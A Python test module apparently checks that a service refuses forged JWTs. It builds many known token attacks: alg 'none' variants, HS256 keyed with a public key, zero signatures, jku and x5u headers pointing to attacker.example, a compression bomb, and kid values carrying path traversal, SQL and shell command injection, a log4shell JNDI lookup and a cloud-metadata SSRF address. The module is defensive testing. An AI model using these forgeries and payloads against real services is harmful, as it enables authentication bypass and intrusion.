"""Headers that would have the service check a token as its sender likes, or not at all.

Most are signed with a key of the forger's, as published. Where a header alone must be reason enough
to refuse, they are signed with ours: then nothing else is wrong with the token.
"""

from __future__ import annotations

import json
import zlib
from base64 import b64encode
from itertools import product
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from .forging import base64url, each, mac, signed, signed_text, written

if TYPE_CHECKING:
    from collections.abc import Callable

    from .forging import Forgery, Loot, Refused

RSA = rsa.generate_private_key(65537, 2048)
EC = ec.generate_private_key(ec.SECP256R1())
OURS = b"a key of the forger's own, long enough to be one"
ELSEWHERE = "https://attacker.example/keys.json"

# ---------------------------------------------------------------- keys of one's own


def number(value: int) -> str:
    """Write a number as keys in JSON have it."""
    return base64url(value.to_bytes((value.bit_length() + 7) // 8))


def rsa_jwk() -> dict[str, str]:
    """Write the forger's public key as JSON."""
    public = RSA.public_key().public_numbers()
    return {"kty": "RSA", "kid": "mine", "n": number(public.n), "e": number(public.e)}


def by_rsa(loot: Loot, algorithm: str = "RS256", **members: object) -> str:
    """Sign with the forger's RSA key, and say so in the header."""
    header = {**loot.header, "alg": algorithm, **members}
    text = f"{written(header)}.{written(loot.desired)}"
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    scheme = pss if algorithm == "PS256" else padding.PKCS1v15()
    return f"{text}.{base64url(RSA.sign(text.encode(), scheme, hashes.SHA256()))}"


def by_ec(loot: Loot, **members: object) -> str:
    """Sign with the forger's key on a curve."""
    text = f"{written({**loot.header, 'alg': 'ES256', **members})}.{written(loot.desired)}"
    r, s = decode_dss_signature(EC.sign(text.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{text}.{base64url(r.to_bytes(32) + s.to_bytes(32))}"


def with_signature(loot: Loot, signature: bytes, **members: object) -> str:
    """Put down any bytes as a signature."""
    return f"{written({**loot.header, **members})}.{written(loot.desired)}.{base64url(signature)}"


def encrypted(**members: object) -> str:
    """Make what looks like an encrypted token (RFC 7516)."""
    return ".".join(
        [written({"enc": "A256GCM", **members}), *(base64url(bytes(n)) for n in (40, 12, 9, 16))]
    )


def confused(encoding: Encoding, form: PublicFormat, end: bytes = b"") -> Forgery:
    """Use as a secret what everybody may know: a public key, to the letter."""
    public = RSA.public_key().public_bytes(encoding, form) + end
    return lambda loot: loot.with_header(public)


# ---------------------------------------------------------------- which algorithm

NONE = ["".join(letters) for letters in product("nN", "oO", "nN", "eE")]

NO_ALGORITHM: dict[str, Forgery] = {
    **{
        f"alg {alg}": lambda loot, alg=alg: with_signature(loot, b"", alg=alg)
        for alg in (*NONE, "none ", " none", "none\0", "", "null", "\uff2e\uff2f\uff2e\uff25")
    },
    **{
        f"alg {json.dumps(alg)}": lambda loot, alg=alg: with_signature(loot, b"", alg=alg)
        for alg in (None, False, 0, [], ["none"], {"alg": "none"})
    },
    "alg none without the last dot": lambda loot: with_signature(loot, b"", alg="none")[:-1],
    "alg none, and a genuine signature": lambda loot: ".".join(
        [written({**loot.header, "alg": "none"}), written(loot.desired), loot.parts[2]]
    ),
    "alg none, signed with our key": lambda loot: loot.with_header(loot.key, alg="none"),
    "alg none, and nothing else": lambda loot: f"{written({'alg': 'none'})}.{loot.parts[1]}.",
    "alg missing": lambda loot: signed({"typ": "at+jwt", "kid": "x"}, loot.desired, loot.key),
    "header empty": lambda loot: signed({}, loot.desired, loot.key),
    "header null": lambda loot: signed(None, loot.desired, loot.key),
    "header a list": lambda loot: signed(["HS256"], loot.desired, loot.key),
    "header a word": lambda loot: signed("HS256", loot.desired, loot.key),
}

OTHER_ALGORITHMS: dict[str, Forgery] = {
    "RS256 by the forger's key": by_rsa,
    "PS256 by the forger's key": lambda loot: by_rsa(loot, "PS256"),
    "ES256 by the forger's key": by_ec,
    "EdDSA": lambda loot: with_signature(loot, bytes(64), alg="EdDSA"),
    "ES256 of zeros (psychic signature)": lambda loot: with_signature(loot, bytes(64), alg="ES256"),
    "ES256 of zeros, as DER": lambda loot: with_signature(
        loot, bytes.fromhex("3006020100020100"), alg="ES256"
    ),
    "ES384 of zeros": lambda loot: with_signature(loot, bytes(96), alg="ES384"),
    "RS256 of zeros": lambda loot: with_signature(loot, bytes(256), alg="RS256"),
    **{
        f"{alg}, signed so with our key": lambda loot, alg=alg, digest=digest: signed(
            {**loot.header, "alg": alg}, loot.desired, loot.key, digest
        )
        for alg, digest in {
            "HS384": "sha384",
            "HS512": "sha512",
            "HS1": "sha1",
            "HS256/64": "sha256",
            "hs256": "sha256",
            "Hs256": "sha256",
            "HS256 ": "sha256",
            "HMACSHA256": "sha256",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256": "sha256",
        }.items()
    },
    "HS256 keyed with a public key (PEM)": confused(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    ),
    "HS256 keyed with a public key (PEM, another line end)": confused(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo, b"\n"
    ),
    "HS256 keyed with a public key (PKCS #1)": confused(Encoding.PEM, PublicFormat.PKCS1),
    "HS256 keyed with a public key (DER)": confused(
        Encoding.DER, PublicFormat.SubjectPublicKeyInfo
    ),
    "HS256 keyed with a public key (JSON)": lambda loot: loot.with_header(
        json.dumps(rsa_jwk()).encode()
    ),
    "an encrypted token": lambda _: encrypted(alg="dir"),
    "an encrypted token that takes a billion rounds to open": lambda _: encrypted(
        alg="PBES2-HS512+A256KW", p2c=10**9, p2s="c2FsdA"
    ),
}

# ---------------------------------------------------------------- which key

KIDS: dict[str, str] = {
    "empty": "",
    "of another": "another",
    "/dev/null": "/dev/null",
    "a path to /dev/null": "../../../../../../../../dev/null",
    "a path to a file that everybody knows": "../../../../../../etc/hostname",
    "a path of another system": "..\\..\\..\\windows\\win.ini",
    "a path that is encoded": "%2e%2e%2f%2e%2e%2fdev%2fnull",
    "a file that is not there": "/invalid_path",
    "a pseudo file": "/proc/sys/kernel/randomize_va_space",
    "SQL that selects a key": "x' UNION SELECT '1';--",
    "SQL that is always true": "x' OR '1'='1",
    "SQL that sleeps": "x'; SELECT pg_sleep(10);--",
    "a command": "|sleep 10",
    "a command in backticks": "`id`",
    "a command in a shell's brackets": "$(id)",
    "a template": "{{7*7}}",
    "a lookup (log4shell)": "${jndi:ldap://attacker.example/x}",
    "an LDAP filter": "*)(uid=*))(|(uid=*",
    "a URL": ELSEWHERE,
    "a URL of a file": "file:///dev/null",
    "an address inside": "http://169.254.169.254/latest/meta-data/",
    "a format string": "%s%s%n",
    "a name of Python's": "__class__",
    "very long": "A" * 100,
    "longer than a head": "A" * 50_000,
    "not ASCII": "ключ",
    "half a character": "\ud800",
}

ODD_KIDS: list[object] = [None, True, False, 0, 1, -1, [], ["tests"], {}, {"$ne": None}]

LIKE_OURS: dict[str, Callable[[str], str]] = {
    "a prefix": lambda kid: kid[:-1],
    "in capitals": str.upper,
    "and a zero byte": lambda kid: f"{kid}\0/../../dev/null",
    "and a line end": lambda kid: f"{kid}\r\nX-Forged: yes",
    "and an invisible character": lambda kid: f"{kid}\u200b",
    "with a look-alike letter": lambda kid: kid.replace("s", "\u0455").replace("-", "\u2011"),
    "twice": lambda kid: f"{kid},{kid}",
}

OTHER_KEYS: dict[str, Forgery] = {
    **{
        f"kid of ours {what}, signed with our key": lambda loot, change=change: loot.with_header(
            loot.key, kid=change(loot.header["kid"])
        )
        for what, change in LIKE_OURS.items()
    },
    **{
        f"kid {what}, {how}": lambda loot, kid=kid, key=key: loot.with_header(key, kid=kid)
        for what, kid in KIDS.items()
        for how, key in {"no key": b"", "the forger's key": OURS, "the key 1": b"1"}.items()
    },
    **{
        f"kid {json.dumps(kid)}": lambda loot, kid=kid: loot.with_header(b"", kid=kid)
        for kid in ODD_KIDS
    },
    "kid missing": lambda loot: signed({"alg": "HS256", "typ": "at+jwt"}, loot.desired, OURS),
    "kid missing, signed with our key": lambda loot: signed(
        {"alg": "HS256", "typ": "at+jwt"}, loot.desired, loot.key
    ),
    "kid of another, signed with our key": lambda loot: loot.with_header(loot.key, kid="another"),
    "jwk: a secret": lambda loot: loot.with_header(
        OURS, jwk={"kty": "oct", "k": base64url(OURS), "alg": "HS256"}
    ),
    "jwk: an RSA key, self-signed": lambda loot: by_rsa(loot, jwk=rsa_jwk()),
    "jwk: an RSA key under our kid": lambda loot: by_rsa(
        loot, jwk={**rsa_jwk(), "kid": loot.header["kid"]}
    ),
    "jwks: a whole set": lambda loot: by_rsa(loot, jwks={"keys": [rsa_jwk()]}),
    "jku: a set elsewhere": lambda loot: by_rsa(loot, jku=ELSEWHERE, kid="mine"),
    "jku: a set elsewhere, and our kid": lambda loot: by_rsa(loot, jku=ELSEWHERE),
    "jku: a name that looks like ours": lambda loot: by_rsa(
        loot, jku="http://127.0.0.1@attacker.example/keys.json"
    ),
    "jku: an address inside": lambda loot: by_rsa(loot, jku="http://127.0.0.1:1/"),
    "x5u: a certificate elsewhere": lambda loot: by_rsa(loot, x5u="https://attacker.example/x.pem"),
    "x5c: a certificate, self-signed": lambda loot: by_rsa(
        loot,
        x5c=[
            b64encode(
                RSA.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
            ).decode()
        ],
    ),
    "x5t: a fingerprint": lambda loot: by_rsa(loot, x5t=base64url(bytes(20))),
    **{
        f"{name}, and all else is right": lambda loot, name=name, value=value: loot.with_header(
            loot.key, **{name: value}
        )
        for name, value in {
            "jwk": {"kty": "oct", "k": "AAAA"},
            "jku": ELSEWHERE,
            "x5u": ELSEWHERE,
            "x5c": ["AAAA"],
            "x5t#S256": "AAAA",
            "url": ELSEWHERE,
            "iss": "shop",
            "epk": {},
            "nonce": "1",
        }.items()
    },
}

# ---------------------------------------------------------------- how it is to be read


def header_text(text: str) -> Forgery:
    """Sign rightly what JSON's own writer would not write; KID stands for our kid."""
    return lambda loot: signed_text(
        f"{base64url(text.replace('KID', loot.header['kid']).encode())}.{written(loot.desired)}",
        loot.key,
    )


def unencoded(loot: Loot, dots: str = ".") -> str:
    """Leave the payload as it is (RFC 7797), rightly signed."""
    header = written({**loot.header, "b64": False, "crit": ["b64"]})
    payload = json.dumps(loot.desired).replace(".", dots)
    return f"{header}.{payload}.{mac(f'{header}.{payload}', loot.key)}"


def detached(loot: Loot) -> str:
    """Leave the payload out (RFC 7515, appendix F), rightly signed."""
    header, payload, signature = loot.with_header(loot.key).split(".")
    return f"{header}..{signature}" if payload else ""


def deflated(loot: Loot) -> str:
    """Compress the payload, as only encrypted tokens may be."""
    packed = zlib.compress(json.dumps(loot.desired).encode(), wbits=-15)
    return signed_text(f"{written({**loot.header, 'zip': 'DEF'})}.{base64url(packed)}", loot.key)


def bomb(loot: Loot) -> str:
    """Compress a hundred megabytes of nothing."""
    packer = zlib.compressobj(9, wbits=-15)
    zeros = bytes(1_000_000)
    packed = b"".join(packer.compress(zeros) for _ in range(20)) + packer.flush()
    return signed_text(f"{written({**loot.header, 'zip': 'DEF'})}.{base64url(packed)}", loot.key)


def nested(loot: Loot, **members: Any) -> str:  # noqa: ANN401 -- any JSON value
    """Make a genuine token the payload of another (RFC 7519, 5.2)."""
    header = {**loot.header, "cty": "JWT", **members}
    return signed_text(f"{written(header)}.{base64url(loot.token.encode())}", loot.key)


CRITICAL: list[object] = [[], ["exp"], ["alg"], ["unknown"], "exp", None, {}, ["b64"]]

OTHER_READINGS: dict[str, Forgery] = {
    "payload not encoded (b64)": unencoded,
    "payload not encoded, dots and all": lambda loot: unencoded(loot, ".."),
    "b64 without crit": lambda loot: loot.with_header(loot.key, b64=False),
    "payload detached": detached,
    "payload compressed": deflated,
    "payload a compression bomb": bomb,
    "a token in a token": nested,
    "a token in a token, for JOSE": lambda loot: nested(loot, typ="JOSE"),
    "cty of a key set": lambda loot: loot.with_header(loot.key, cty="jwk-set+json"),
    **{
        f"crit {json.dumps(crit)}": lambda loot, crit=crit: loot.with_header(loot.key, crit=crit)
        for crit in CRITICAL
    },
    "crit, and what it names": lambda loot: loot.with_header(
        loot.key, crit=["must-understand"], **{"must-understand": True}
    ),
    "alg twice, none first": header_text('{"alg":"none","alg":"HS256","kid":"KID","typ":"at+jwt"}'),
    "alg twice, none last": header_text('{"alg":"HS256","alg":"none","kid":"KID","typ":"at+jwt"}'),
    "kid twice": header_text('{"alg":"HS256","kid":"x","kid":"KID","typ":"at+jwt"}'),
    "alg in capitals beside alg": header_text(
        '{"alg":"HS256","ALG":"none","kid":"KID","typ":"at+jwt"}'
    ),
    "a comment": header_text('{"alg":"HS256",/**/"kid":"KID","typ":"at+jwt"}'),
    "a byte order mark": header_text('\ufeff{"alg":"HS256","kid":"KID","typ":"at+jwt"}'),
    "something behind it": header_text('{"alg":"HS256","kid":"KID","typ":"at+jwt"}{}'),
}


@each(NO_ALGORITHM)
def test_a_token_without_an_algorithm_opens_nothing(
    opens_nothing: Refused, loot: Loot, forge: Forgery
) -> None:
    opens_nothing(forge(loot))


@each(OTHER_ALGORITHMS)
def test_a_token_by_another_algorithm_opens_nothing(
    opens_nothing: Refused, loot: Loot, forge: Forgery
) -> None:
    opens_nothing(forge(loot))


@each(OTHER_KEYS)
def test_a_token_that_brings_or_names_its_own_key_opens_nothing(
    opens_nothing: Refused, loot: Loot, forge: Forgery
) -> None:
    opens_nothing(forge(loot))


@each(OTHER_READINGS)
def test_a_token_that_wants_to_be_read_otherwise_opens_nothing(
    opens_nothing: Refused, loot: Loot, forge: Forgery
) -> None:
    opens_nothing(forge(loot))
